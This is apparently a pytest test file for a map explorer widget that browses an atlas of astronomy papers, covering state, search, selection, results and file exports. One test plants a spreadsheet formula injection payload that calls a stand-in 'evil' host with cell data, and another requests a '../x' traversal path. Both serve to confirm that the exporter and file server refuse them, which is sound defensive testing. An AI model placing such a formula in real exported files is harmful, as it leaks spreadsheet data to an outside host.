"""The map explorer: its state from code and from a page, search, selection, results and files."""

from __future__ import annotations

import csv
import gzip
import io
import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import numpy as np
import pandas as pd
import pytest

from benchmarks.literature import write_made_up_atlas

# Private modules: no public function exposes the steps tested here by themselves.
from landscape import Atlas
from landscape.errors import InputError, LandscapeError
from landscape.viewer import MapSource
from landscape.viewer import exploring as work
from landscape.viewer import selection as selecting
from landscape.viewer.columns import colours_of
from landscape.viewer.state import inside, passing
from landscape.widgets import MapExplorer
from tests.timing import time_limit, until


def from_page(explorer: MapExplorer, **state: Any) -> None:
    """Change traits as the browser does."""
    explorer.map.set_state(state)
    assert explorer.wait(time_limit(60))


def select_on_page(explorer: MapExplorer, rows: Any, outline: Any = None) -> None:
    turn = explorer.map.selected.get("turn", 0) + 1
    points = explorer.map.points_of(rows)
    from_page(explorer, selected={"turn": turn, "points": points}, outline=outline)


def ask_on_page(explorer: MapExplorer, do: str, rows: Any = None, **request: Any) -> None:
    """Send a request as the browser does."""
    buffers = [] if rows is None else [explorer.map.points_of(rows)]
    explorer.map._hear(explorer.map, {"do": do, **request}, buffers)
    assert explorer.wait(time_limit(60))


@pytest.fixture
def sent(explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch) -> list[tuple[Any, list[bytes]]]:
    """Messages to the browser."""
    told: list[tuple[Any, list[bytes]]] = []
    monkeypatch.setattr(
        explorer.map, "send", lambda message, buffers=None: told.append((message, buffers or []))
    )
    return told


def again(explorer: MapExplorer) -> MapExplorer:
    names = {"MapExplorer": MapExplorer, "atlas": explorer.atlas}
    made: MapExplorer = eval(explorer.code, names)  # noqa: S307 - our own line
    assert made.wait(time_limit(60))
    return made


@contextmanager
def held_up(monkeypatch: pytest.MonkeyPatch, owner: Any, name: str) -> Iterator[Callable[[], None]]:
    """Block calls of a function until the context exits."""
    begun, go_on = threading.Event(), threading.Event()
    real = getattr(owner, name)

    def waiting(*args: Any, **named: Any) -> Any:
        begun.set()
        assert go_on.wait(time_limit(60))
        return real(*args, **named)

    monkeypatch.setattr(owner, name, waiting)

    def until_begun() -> None:
        assert begun.wait(time_limit(60))

    try:
        yield until_begun
    finally:
        go_on.set()


# -- state


def test_the_code_makes_the_same_state(explorer: MapExplorer) -> None:
    explorer.search("dark matter", k=10, method="words")
    explorer.time = (2005, 2015)
    explorer.region = explorer.atlas.topics.query("level == 1")["label"].iloc[0]
    explorer.facility, explorer.layers = "HST", ("names", "reviews")
    explorer.select("2010..").colour_by = "journal"
    explorer.zoom(2).theme = "dark"
    assert explorer.wait(time_limit(60))
    made = again(explorer)
    assert made.code == explorer.code
    assert made.map.given == {**explorer.map.given, "view": made.map.given["view"]}
    assert np.allclose(made.view, explorer.view, rtol=1e-2)
    assert made.rows.tolist() == explorer.rows.tolist()
    assert made.results.rows.tolist() == explorer.results.rows.tolist()


def test_the_code_follows_the_page(explorer: MapExplorer) -> None:
    view = [0.5, 1.0, 1.5, 2.0]
    from_page(explorer, given={"view": view, "colour": "year", "years": [2000, 2010]})
    assert explorer.view == tuple(view)
    assert explorer.colour_by == "year"
    assert explorer.time == (2000, 2010)
    assert "view=(0.500, 1.000, 1.500, 2.000), colour_by='year', time=(2000, 2010)" in explorer.code
    from_page(explorer, given={"view": [0.6, 1.0, 1.5, 2.0]})
    explorer.back()
    assert explorer.view == tuple(view)


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"years": [2000, 2010]}, "2000..2010"),
        ({"facility": "HST"}, "mentions:HST"),
        ({"facility": "HST", "uses": True}, "facility:HST"),
    ],
)
def test_filters_of_the_page_and_of_a_search_agree(
    explorer: MapExplorer, filters: dict[str, Any], expected: str
) -> None:
    rows = np.flatnonzero(passing(explorer.map.source, filters))
    assert rows.tolist() == explorer.atlas.select(expected).tolist()
    assert 0 < len(rows) < 400


def test_a_region_has_the_papers_of_its_subregions(explorer: MapExplorer) -> None:
    topics = explorer.atlas.topics
    for row in topics.itertuples():
        n = int(passing(explorer.map.source, {"region": row.topic_id}).sum())
        if row.level < 2:
            assert n == row.n_papers
    explorer.region = int(topics["topic_id"].iloc[0])
    assert explorer.region == topics["label"].iloc[0]


def test_names_are_found_as_in_filters(explorer: MapExplorer) -> None:
    explorer.facility = "hubble space telescope"
    assert explorer.facility == "HST"
    ids = explorer.atlas.uat["concept_id"].value_counts()
    label = explorer.atlas.thesaurus.concepts[ids.index[0]].label
    explorer.concept = label.upper()
    assert explorer.concept == label
    assert f"concept={label!r}, facility='HST'" in explorer.code


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"outline": [1, 2, 3]}, r"The outline is \[1, 2, 3\]; give its corners"),
        ({"outline": [("a", 1)]}, "give its corners"),
        ({"layers": 5}, "The layers are 5; give a list"),
        ({"layers": ["name"]}, "There is no layer 'name'"),
        ({"concept": 5}, "The concept is 5; give its name"),
        ({"facility": "HERMES"}, "3 facilities 'HERMES'; give one of"),
        ({"facility": "ALMO"}, "no facility 'ALMO'; the nearest"),
        ({"region": "Nowhere"}, "There is no region 'Nowhere'"),
        ({"colour_by": "topic"}, "There is no colour 'topic'; use one of region, density"),
        ({"time": (2005, 1999)}, "ends in 1999"),
        ({"view": (1, 2, 3)}, r"The view is \(1, 2, 3\); give"),
        ({"view": (1, 2, 0, 3)}, "with x0 < x1"),
        ({"theme": "blue"}, "The theme is 'blue'; use one of auto"),
        ({"height": 5}, "height is 5"),
        ({"search": 5}, "The search is 5; write a question"),
        ({"search": "dust", "method": "magic"}, "There is no method 'magic'"),
        ({"mine": ["2024ApJ...999..999X"]}, "None of the 1 paper in .* is in this atlas"),
        ({"mine": "nowhere.bib"}, "'nowhere.bib' cannot be read"),
    ],
)
def test_what_cannot_be_is_one_sentence(
    demo_atlas: Atlas, given: dict[str, Any], said: str
) -> None:
    with pytest.raises(LandscapeError, match=said):
        MapExplorer(demo_atlas, **given)


def test_a_folder_is_no_atlas(demo_atlas: Atlas) -> None:
    with pytest.raises(InputError, match=r"needs an open atlas, not .*; open .* with ls.open"):
        MapExplorer(str(demo_atlas.path))  # type: ignore[arg-type]


def test_a_zoom_has_its_bounds(explorer: MapExplorer) -> None:
    for _ in range(30):
        explorer.zoom(2)
    x0, _, x1, _ = explorer.view
    assert x1 - x0 == pytest.approx(explorer.map.source.box[2] / 200)
    before = explorer.view
    for factor in (0, -1, float("nan"), float("inf"), "much"):
        with pytest.raises(InputError, match=r"The zoom is .*; give a number above 0"):
            explorer.zoom(factor)  # type: ignore[arg-type]
    assert explorer.view == before


def test_two_explorers_share_nothing_unless_they_are_linked(
    demo_atlas: Atlas, explorer: MapExplorer, tmp_path: Any
) -> None:
    other = MapExplorer(demo_atlas, theme="dark")
    other.select("2010..").zoom(3)
    assert not len(explorer.rows)
    assert "view" not in explorer.map.given
    explorer.link(other)
    small = write_made_up_atlas(tmp_path / "small.atlas", n_papers=20, n_facilities=2)
    with pytest.raises(InputError, match="is another atlas than"):
        explorer.link(MapExplorer(small))


# -- search and selection


def test_a_search_is_told_to_the_page_with_its_key(
    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
) -> None:
    explorer.search("dark matter", k=10)
    assert explorer.wait(time_limit(60))
    found = explorer.map.found
    assert found["key"] == ["dark matter", "hybrid", 10, None]
    assert explorer.map.rows_of(found["points"]).tolist() == explorer.results.rows.tolist()
    assert explorer.results.note.startswith("Best first")
    runs: list[Any] = []
    real = work.find_papers
    monkeypatch.setattr(work, "find_papers", lambda *a, **k: runs.append(a) or real(*a, **k))
    asked: dict[str, Any] = {"query": "dark matter", "method": "hybrid", "k": 10}
    ask_on_page(explorer, "search", **asked, years=None)
    assert runs == [], "what the page asks for is known already"
    ask_on_page(explorer, "search", **asked, years=[2010, 2020])
    assert len(runs) == 1
    years = explorer.atlas.read_papers(["year"])["year"][explorer.results.rows]
    assert years.between(2010, 2020).all()


def test_an_error_of_a_search_reaches_the_page_and_the_text_stays(explorer: MapExplorer) -> None:
    explorer.search("citations>", method="filter")
    assert explorer.wait(time_limit(60))
    assert "whole number is missing" in explorer.status
    assert "whole number is missing" in explorer.map.found["problem"]
    assert explorer.map.notice == explorer.status
    assert explorer.map.given["query"] == "citations>"
    assert explorer.results is None


def test_a_filter_in_the_search_is_read_as_a_filter(explorer: MapExplorer) -> None:
    explorer.search("facility:HST; 2010..")
    assert explorer.wait(time_limit(60))
    found = explorer.results
    assert found is not None
    assert sorted(found.rows) == explorer.atlas.select("facility:HST; 2010..").tolist()
    assert "read as a filter" in found.note
    for question in ("dark matter: a review", "what happened in 2015?", "10:1 mergers"):
        assert not work.is_filter(question)


def test_years_chosen_during_a_search_hold_for_it(
    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
) -> None:
    with held_up(monkeypatch, work, "find_papers") as until_begun:
        explorer.search("dust", k=10)
        until_begun()
        explorer.time = (2010, 2020)
    assert explorer.wait(time_limit(60))
    years = explorer.atlas.read_papers(["year"])["year"][explorer.results.rows]
    assert years.between(2010, 2020).all()
    assert explorer.map.found["key"][3] == [2010, 2020]


def test_a_search_that_is_cleared_finds_nothing(
    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
) -> None:
    with held_up(monkeypatch, work, "find_papers") as until_begun:
        explorer.search("dust")
        until_begun()
        explorer.clear()
    assert explorer.wait(time_limit(60))
    assert explorer.results is None
    assert explorer.code == "MapExplorer(atlas)"


def test_an_outline_of_the_page_is_a_table_and_code(explorer: MapExplorer) -> None:
    x0, y0, x1, y1 = explorer.view
    corners = [[x0, y0], [(x0 + x1) / 2, y0], [(x0 + x1) / 2, y1], [x0, y1]]
    rows = inside(explorer.map.source, corners)
    assert 20 < len(rows) < 380
    select_on_page(explorer, rows, corners)
    assert explorer.rows.tolist() == rows.tolist()
    table = explorer.selection
    assert table.index.tolist() == rows.tolist()
    assert table["paper_id"].tolist() == explorer.atlas.map["paper_id"][rows].tolist()
    assert "outline=[" in explorer.code
    assert again(explorer).rows.tolist() == rows.tolist()
    from_page(explorer, given={"years": [2010, 2020]})
    assert "select([" in explorer.code, "with other years, the outline has other papers"
    assert again(explorer).rows.tolist() == rows.tolist()
    explorer.select(np.arange(350))
    assert "350 papers selected, too many to list" in explorer.code
    assert explorer.map.outline is None


def test_the_even_odd_rule_is_that_of_matplotlib(demo_atlas: Atlas) -> None:
    from matplotlib.path import Path as Outline

    source = MapSource(demo_atlas)
    x0, y0, side = source.box
    corners = x0 + side * np.array([(0.1, 0.2), (0.8, 0.1), (0.5, 0.5), (0.9, 0.9), (0.2, 0.8)])
    corners[:, 1] += y0 - x0
    points = source.plane[source.point_of] * side + [x0, y0]
    expected = Outline(np.vstack([corners, corners[:1]])).contains_points(points)
    assert inside(source, corners.tolist()).tolist() == np.flatnonzero(expected).tolist()


def test_a_filter_gives_way_to_what_was_selected_after_it(
    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
) -> None:
    with held_up(monkeypatch, explorer.atlas.engine, "select") as until_begun:
        explorer.map._hear(explorer.map, {"do": "select", "filter": "2010.."}, [])
        until_begun()
        explorer.select([1, 2])
    assert explorer.wait(time_limit(60))
    assert explorer.rows.tolist() == [1, 2]


def test_a_filter_with_an_error_keeps_the_selection(explorer: MapExplorer) -> None:
    explorer.select([1, 2])
    ask_on_page(explorer, "select", filter="2015...; fooo:bar")
    assert explorer.status
    assert explorer.map.notice == explorer.status
    assert explorer.rows.tolist() == [1, 2]


# -- results and files


def test_summary_comparison_answer_and_tables(explorer: MapExplorer, tmp_path: Any) -> None:
    with pytest.raises(InputError, match="No paper is selected"):
        explorer.summarise()
    explorer.select("2010..")
    summary = explorer.summarise()
    assert "fill='#" in summary._repr_html_()  # shown by itself, without the styles of the panel
    assert summary.n_papers == len(explorer.rows) == summary.years.sum()
    assert len(explorer.compare().table)
    answer = explorer.ask("What is known about dark matter?", model=None)
    chosen = set(explorer.rows.tolist())
    assert answer.results.papers
    assert all(paper.row in chosen for paper in answer.results.papers)
    assert len(explorer.save(tmp_path / "some.csv").read_text().splitlines()) >= len(chosen) + 1
    assert explorer.save(tmp_path / "some.bib").read_text().count("@") >= len(chosen)


@pytest.mark.parametrize(
    ("do", "shown"), [("summary", "Regions"), ("compare", "elsewhere"), ("ask", "landscape")]
)
def test_results_are_shown_on_the_page(explorer: MapExplorer, do: str, shown: str) -> None:
    explorer.select("stars" if do == "compare" else "2010..")
    ask_on_page(explorer, do, **({"question": "How does dust cool?"} if do == "ask" else {}))
    assert explorer.status == ""
    assert shown in explorer.map.outcome


def test_a_result_of_another_selection_is_not_shown(
    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
) -> None:
    explorer.select("2010..")
    with held_up(monkeypatch, selecting, "compare_with_rest") as until_begun:
        explorer.map._hear(explorer.map, {"do": "compare"}, [])
        until_begun()
        explorer.select("..2005")
    assert explorer.wait(time_limit(60))
    assert explorer.map.outcome == ""


def test_a_request_without_a_selection_is_one_sentence(explorer: MapExplorer) -> None:
    ask_on_page(explorer, "compare")
    assert explorer.status.startswith("No paper is selected")


@pytest.mark.parametrize("suffix", [".png", ".html"])
def test_the_page_makes_files(explorer: MapExplorer, sent: list[Any], suffix: str) -> None:
    ask_on_page(explorer, "save", suffix=suffix)
    ((message, (content,)),) = sent
    assert message["kind"] == "download"
    assert message["name"] == f"demo-corpus--generated{suffix}"
    assert len(content) > 10_000


def test_tables_of_the_listed_papers(explorer: MapExplorer, sent: list[Any]) -> None:
    ask_on_page(explorer, "table", rows=[5, 3], name="papers.csv")
    ask_on_page(explorer, "table", rows=[5, 3], name="papers.bib")
    (_, (table,)), (_, (bib,)) = sent
    ids = explorer.atlas.map["paper_id"]
    assert pd.read_csv(io.BytesIO(table))["paper_id"].tolist() == [ids[5], ids[3]]
    assert bib.count(b"@") == 2


@pytest.mark.parametrize("colour", ["density", "region", "year", "facility", "concept", "journal"])
def test_the_map_is_saved_with_its_colours(
    explorer: MapExplorer, tmp_path: Any, colour: str
) -> None:
    explorer.colour_by = colour
    explorer.layers = ("names", "papers", "reviews")
    explorer.time = (2000, 2020)
    explorer.search("dark matter", k=10).select("2015..")
    assert explorer.wait(time_limit(60))
    path = explorer.save(tmp_path / "view.png")
    assert path.stat().st_size > 10_000
    told = path.with_suffix(".alt.txt").read_text()
    n = int(passing(explorer.map.source, explorer.map.given).sum())
    assert f"Shown: {n} of 400 papers (2000 to 2020)." in told
    assert "Marked: 10 papers found for “dark matter”." in told
    assert f"selected papers of {len(explorer.rows)} selected" in told


def test_a_saved_page_has_the_viewer_in_the_same_state(
    explorer: MapExplorer, tmp_path: Any
) -> None:
    explorer.search("dark matter", k=10)
    explorer.colour_by = "year"
    assert explorer.wait(time_limit(60))
    page = explorer.save(tmp_path / "view.html").read_text()
    given = page.split("data-given=")[1].split(">")[0]
    assert "&quot;colour&quot;: &quot;year&quot;" in given
    assert "dark matter" not in given, "the page cannot search by meaning: the papers are selected"
    assert given.count(",") >= 10
    with pytest.raises(InputError, match="cannot be written"):
        explorer.save(tmp_path / "view.doc")


def test_a_saved_notebook_can_have_a_picture(explorer: MapExplorer) -> None:
    picture = explorer.picture()
    assert picture._repr_png_().startswith(b"\x89PNG")
    assert "400 papers" in repr(picture)


def test_a_selection_as_csv_has_no_formulas(demo_atlas: Atlas) -> None:
    import dataclasses

    title = 'x,=HYPERLINK("http://evil/?"&B2;"click"),y'
    manifest = dataclasses.replace(demo_atlas.manifest, title=title)
    written = selecting.papers_as_csv(
        dataclasses.replace(demo_atlas, manifest=manifest), np.arange(3)
    )
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(written)) for cell in row)
    assert pd.read_csv(io.StringIO(written)).columns[:2].tolist() == ["paper_id", "title"]


# -- files of the viewer


def test_the_browser_gets_what_it_needs_without_asking(explorer: MapExplorer) -> None:
    assert until(lambda: not explorer.map.coming, 60)
    view = explorer.map
    assert set(view.files) == {"source.json", "points-0.bin"}
    assert set(view.titles) == set(view.source.names("records"))
    assert set(view.words) == set(view.source.names("words"))
    table = json.loads(gzip.decompress(view.titles["records/0.json"]))
    titles = explorer.atlas.read_papers(["title"])["title"]
    assert table["title"][7] == titles[int(view.source.order[7])]


def test_other_files_are_sent_when_they_are_asked_for(
    explorer: MapExplorer, sent: list[Any]
) -> None:
    for name in ("details/0.json", "facilities.bin", "columns/journal", "../x", "details/99.json"):
        ask_on_page(explorer, "read", name=name)
    answers = {message["name"]: (message, buffers) for message, buffers in sent}
    assert len(json.loads(gzip.decompress(answers["details/0.json"][1][0]))) == 128
    head, _, values = gzip.decompress(answers["columns/journal"][1][0]).partition(b"\n")
    assert json.loads(head)["title"].startswith("Journal")
    assert len(values) == 400
    assert answers["../x"][0]["error"] == "The viewer has no file '../x'."
    assert "no file" in answers["details/99.json"][0]["error"]


def test_colours_of_classes_and_numbers() -> None:
    head, values = colours_of("journal", pd.Series(["A", None, "B", "A"]))
    assert (head["labels"], values.tolist()) == (["A", "B"], [0, 255, 1, 0])
    head, values = colours_of("categories", pd.Series([np.array(["x", "y"]), np.array([]), None]))
    assert (head["labels"], values.tolist()) == (["x"], [0, 255, 255])
    head, values = colours_of("year", pd.Series([2000, pd.NA, 2010], dtype="Int16"))
    assert (head["ends"], head["unknown"], values.tolist()) == (
        ["2000 or earlier", "2010 or later"],
        1,
        [1, 0, 255],
    )
    with pytest.raises(InputError, match="No paper of this atlas has a value of 'x'"):
        colours_of("x", pd.Series([None, None]))


def test_own_papers_are_found_in_a_bibliography(demo_atlas: Atlas, tmp_path: Any) -> None:
    papers = demo_atlas.engine.papers([3, 77])
    (tmp_path / "mine.bib").write_text(
        "".join(f"@article{{{paper.bibcode}, title={{x}}}}\n" for paper in papers)
        + "@book{other, title={y}}\n"
    )
    explorer = MapExplorer(demo_atlas, mine=tmp_path / "mine.bib")
    assert explorer.map.source.mine.tolist() == [3, 77]
    assert (
        json.loads(gzip.decompress(explorer.map.files["source.json"]))["sets"]["mine"][0]["papers"]
        == 2
    )
    listed = MapExplorer(demo_atlas, mine=[paper.bibcode for paper in papers])
    assert again(listed).map.source.mine.tolist() == [3, 77]


def test_a_refused_search_is_answered(explorer: MapExplorer) -> None:
    ask_on_page(explorer, "search", query="dust", method="words", k="3", years=None)
    assert explorer.map.found["key"] == ["dust", "words", "3", None]
    assert "(k: " in explorer.map.found["problem"]


@pytest.mark.parametrize("buffer", [b"abc", b"\xff\xff\xff\x7f"])
def test_papers_of_another_atlas_are_refused(explorer: MapExplorer, buffer: bytes) -> None:
    request = {"do": "table", "name": "papers.csv"}
    explorer.map._hear(explorer.map, request, [buffer])
    assert "load it again" in explorer.map.notice


@pytest.mark.parametrize("message", [[], "x", None])
def test_what_is_no_message_is_refused(explorer: MapExplorer, message: Any) -> None:
    explorer.map._hear(explorer.map, message, [])
    assert explorer.map.notice


def test_an_explorer_opens_its_atlas_again(explorer: MapExplorer) -> None:
    before = explorer.map.source
    explorer.open_again()
    assert explorer.wait(time_limit(60))
    assert explorer.map.source is not before
